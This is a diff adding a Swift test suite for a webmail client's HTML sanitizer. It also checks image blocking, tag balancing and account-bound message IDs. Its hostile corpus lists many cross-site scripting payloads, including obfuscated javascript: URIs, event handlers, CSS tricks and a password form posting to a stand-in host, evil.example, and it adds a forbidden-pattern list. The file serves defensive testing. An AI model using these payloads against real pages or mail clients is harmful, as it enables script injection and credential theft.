@@ -1,0 +1,126 @@
+import Testing
+import MailwardCore
+@testable import MailwardWeb
+
+/// The hostile HTML corpus: every entry must come out without anything that can run script,
+/// submit a form, navigate by itself or load from a remote host (images blocked by default).
+@Suite struct HTMLSanitizerTests {
+    static let hostile: [String] = [
+        "<script>alert(1)</script>hello",
+        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+        "<scr<script>ipt>alert(1)</script>",
+        "<img src=x onerror=alert(1)>",
+        "<img src=\"https://evil.example/track.gif\" onload=\"alert(1)\">",
+        "<body onload=alert(1)>text</body>",
+        "<div onclick=\"alert(1)\" onmouseover='alert(2)'>hover</div>",
+        "<a href=\"javascript:alert(1)\">click</a>",
+        "<a href=\"jav&#x09;ascript:alert(1)\">tab</a>",
+        "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">entities</a>",
+        "<a href=\" JaVaScRiPt:alert(1)\">case</a>",
+        "<a href=\"vbscript:msgbox(1)\">vb</a>",
+        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">data</a>",
+        "<svg onload=alert(1)><script>alert(2)</script></svg>",
+        "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
+        "<math><mtext><script>alert(1)</script></mtext></math>",
+        "<div style=\"width: expression(alert(1))\">ie</div>",
+        "<div style=\"background-image: url(https://evil.example/bg.png)\">bg</div>",
+        "<div style=\"behavior: url(x.htc); -moz-binding: url(x.xml#y)\">b</div>",
+        "<div style=\"color: red; background: u\\72l(https://evil.example/x)\">escape</div>",
+        "<style>body{background:url(https://evil.example/s.png)}</style><p>styled</p>",
+        "<style>@import 'https://evil.example/x.css';</style>",
+        "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
+        "<base href=\"https://evil.example/\"><a href=\"/login\">rel</a>",
+        "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">",
+        "<form action=\"https://evil.example/steal\" method=\"post\"><input name=\"password\" type=\"password\"><button>登录</button></form>",
+        "<iframe src=\"https://evil.example/\"></iframe>",
+        "<object data=\"https://evil.example/x.swf\"></object><embed src=\"https://evil.example/y.swf\">",
+        "<table background=\"https://evil.example/t.png\"><tr><td>cell</td></tr></table>",
+        "<img srcset=\"https://evil.example/a.png 1x\" src=\"cid:none\">",
+        "<img src=\"//evil.example/proto-relative.png\">",
+        "<video poster=\"https://evil.example/p.png\"><source src=\"https://evil.example/v.mp4\"></video>",
+        "<!--<script>alert(1)//--><p>after comment</p>",
+        "<p title=\"</p><script>alert(1)</script>\">attr</p>",
+        "<<script>script>alert(1)<</script>/script>",
+        "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
+        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
+        "<template><script>alert(1)</script></template>",
+        "<textarea><script>alert(1)</script></textarea>",
+        "<a href=\"https://ok.example/\" target=\"_self\" ping=\"https://evil.example/ping\">ping</a>",
+        "<div id=\"x\" class=\"y\" formaction=\"https://evil.example/\">attrs</div>",
+        "<img src=x:alert(1) onerror=eval(src)>",
+        "<isindex action=\"javascript:alert(1)\" type=image>",
+    ]
+
+    static let forbidden = [
+        "<script", "javascript:", "vbscript:", "onerror", "onload", "onclick", "onmouseover", "<svg", "<math", "<iframe",
+        "<object", "<embed", "<form", "<input", "<button", "<meta", "<base", "<link", "<style", "expression(", "url(",
+        "evil.example", "data:text", "data:image/svg+xml;base64", "background=", "srcset", "<video", "<source", "ping=",
+        "formaction", "<textarea", "<template", "<noscript", "<isindex",
+    ]
+
+    @Test(arguments: hostile)
+    func hostileInputIsDefused(_ input: String) {
+        let output = HTMLSanitizer().sanitize(input).html.lowercased()
+        for needle in Self.forbidden {
+            #expect(!output.contains(needle), "\(needle) survived in \(output)")
+        }
+    }
+
+    @Test func harmlessMarkupSurvives() {
+        let input = "<p style=\"color: red; font-weight: bold\">你好 <b>world</b> <a href=\"https://example.com/a?b=1&amp;c=2\">link</a></p><table border=1><tr><td colspan=2>x</td></tr></table>"
+        let output = HTMLSanitizer().sanitize(input).html
+        #expect(output.contains("<p style=\"color: red; font-weight: bold\">你好 <b>world</b>"))
+        #expect(output.contains("<a href=\"https://example.com/a?b=1&amp;c=2\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">link</a>"))
+        #expect(output.contains("<td colspan=\"2\">x</td>"))
+    }
+
+    @Test func remoteImagesAreBlockedUntilAllowed() {
+        let input = "<img src=\"https://img.example.com/a.png\" alt=\"a\"><img src='http://img.example.com/b.png'>"
+        let blocked = HTMLSanitizer().sanitize(input)
+        #expect(blocked.blockedImages == 2)
+        #expect(!blocked.html.contains("img.example.com"))
+        #expect(blocked.html.contains(HTMLSanitizer.blockedImage.replacingOccurrences(of: "'", with: "&#39;")))
+        let allowed = HTMLSanitizer(allowRemoteImages: true).sanitize(input)
+        #expect(allowed.blockedImages == 0)
+        #expect(allowed.html.contains("src=\"https://img.example.com/a.png\""))
+    }
+
+    @Test func cidImagesUseTheResolver() {
+        let sanitizer = HTMLSanitizer(inlineImage: { $0 == "logo@x" ? "data:image/png;base64,AAAA" : nil })
+        #expect(sanitizer.sanitize("<img src=\"cid:logo@x\">").html == "<img src=\"data:image/png;base64,AAAA\">")
+        #expect(sanitizer.sanitize("<img src=\"cid:other\">").html == "")
+    }
+
+    @Test func unclosedAndStrayTagsAreBalanced() {
+        #expect(HTMLSanitizer().sanitize("<div><b>bold").html == "<div><b>bold</b></div>")
+        #expect(HTMLSanitizer().sanitize("</div>text</b>").html == "text")
+        #expect(HTMLSanitizer().sanitize("a < b && c > d").html == "a &lt; b &amp;&amp; c &gt; d")
+    }
+
+    @Test func deepNestingAndHugeInputEnd() {
+        let deep = String(repeating: "<div>", count: 10_000) + "x"
+        let output = HTMLSanitizer().sanitize(deep).html
+        #expect(output.components(separatedBy: "<div>").count - 1 == HTMLSanitizer.maxDepth)
+        let unterminated = "<a href=\"" + String(repeating: "x", count: 100_000)
+        #expect(HTMLSanitizer().sanitize(unterminated).html.count < 100)
+    }
+
+    @Test func plainTextIsEscapedAndLinkified() {
+        let html = PlainText.html("<b>hi</b> see https://example.com/x?a=1&b=2. 中文https://例子")
+        #expect(html.contains("&lt;b&gt;hi&lt;/b&gt;"))
+        #expect(html.contains("<a href=\"https://example.com/x?a=1&amp;b=2\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">https://example.com/x?a=1&amp;b=2</a>."))
+        #expect(!html.contains("<b>"))
+    }
+
+    @Test func mailIDsAreBoundToTheAccount() throws {
+        let ids = MailIDs(key: try .init(bytes: Array(repeating: 7, count: 32)))
+        let token = ids.message(42, 1)
+        #expect(ids.decode(.message, token, account: 1) == 42)
+        #expect(ids.decode(.message, token, account: 2) == nil)
+        #expect(ids.decode(.mailbox, token, account: 1) == nil)
+        #expect(ids.decode(.message, "42", account: 1) == nil)
+        var tampered = Array(token)
+        tampered[3] = tampered[3] == "A" ? "B" : "A"
+        #expect(ids.decode(.message, String(tampered), account: 1) == nil)
+    }
+}
